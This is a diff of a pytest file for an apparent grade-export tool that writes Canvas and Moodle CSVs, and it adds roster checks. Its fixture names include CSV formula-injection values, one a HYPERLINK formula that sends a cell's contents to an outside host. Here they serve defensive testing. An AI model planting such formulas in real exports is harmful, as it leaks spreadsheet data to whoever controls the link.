@@ -14,7 +14,7 @@ NAMES = [
     ("ana", "Åsa", "O'Brien", "asa@x.org"),
     ("wei", "", "李", "li@x.org"),
     ("bo.lee", 'Bo "Bobo"', "Lee, Jr.", "Bo+Lee@x.org"),
-    ("-7", "Two\nLines", "Smith; Jones", "seven@x.org"),
+    ("no-7", "Two\nLines", "Smith; Jones", "seven@x.org"),
     ("evil", "=1+1", '=HYPERLINK("http://x.org?"&A1)', "evil@x.org"),
 ]
 LESSONS = {"01_policy_updates": 20.0, "02_divergence": 26.0, "07_case_study": 30.0}
@@ -42,6 +42,9 @@ def rows():
 def term(tmp_path, rows, monkeypatch):
     """As much of a term as exporting needs: its rows."""
     monkeypatch.setattr("autograde.exporting.grades", lambda term: iter(rows))
+    roster = [one[0] for one in NAMES] + ["901", "902", "903"]
+    lines = ["id,first_name,last_name,email", *(f"{student},,," for student in roster)]
+    (tmp_path / "roster.csv").write_text("\n".join(lines))
     return Term(tmp_path)
 
 
@@ -68,7 +71,7 @@ def test_canvas_gets_its_columns_and_what_is_due(tmp_path, term):
     assert [line[2:4] for line in students] == [[one[0], one[0]] for one in NAMES]
     scores = {line[2]: line[5:] for line in students}
     assert scores["ana"] == ["10", "25.5"]
-    assert scores["-7"] == ["11", "0"]  # nothing earned is not nothing handed in
+    assert scores["no-7"] == ["11", "0"]  # nothing earned is not nothing handed in
     assert scores["evil"] == ["", ""]
 
 
@@ -90,6 +93,19 @@ def test_moodle_gets_both_of_its_ids(tmp_path, term):
     assert header == [*MOODLE, "02_divergence", "07_case_study"]
     assert {line[2]: line[3] for line in students} == {one[0]: one[3] for one in NAMES}
     assert {line[2]: line[4] for line in students}["bo.lee"] == "10.67"
+
+
+def test_who_is_not_on_the_roster_goes_to_no_platform_and_it_is_said(tmp_path, term, rows):
+    stranger = ("guest_5", "Gail", "Guest", "gail@x.org")
+    rows += [row(stranger, "02_divergence", 30), row(stranger, "07_case_study")]
+    assert "guest_5" in {line[0] for line in read(export(term, tmp_path / "x.csv").path)}
+    for form in ("canvas", "moodle"):
+        made = export(term, tmp_path / "x.csv", form)
+        assert "guest_5" not in made.path.read_text("utf-8")
+        assert ["guest_5: not on the roster" in note for note in made.notes].count(True) == 1
+    (tmp_path / "roster.csv").unlink()
+    with pytest.raises(UsageError, match="nobody is on the roster"):
+        export(term, tmp_path / "x.csv", "canvas")
 
 
 CANVAS = """\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Essay (7),02 Divergence (12),Total
@@ -114,7 +130,7 @@ def test_canvass_own_export_is_filled_in(tmp_path, term):
     assert {line[1]: line[5:] for line in students} == {
         "3": ["10.67", "9"], "1": ["10", "25.5"], "5": ["7.5", ""], "8": ["10.33", ""],
     }  # fmt: skip
-    assert [line.partition(":")[0] for line in made.unplaced] == ["-7"]
+    assert [line.partition(":")[0] for line in made.unplaced] == ["no-7"]
     assert any("has no assignment 07_case_study" in note for note in made.notes)
     assert any("worth 25 there and 26 here" in note for note in made.notes)
 
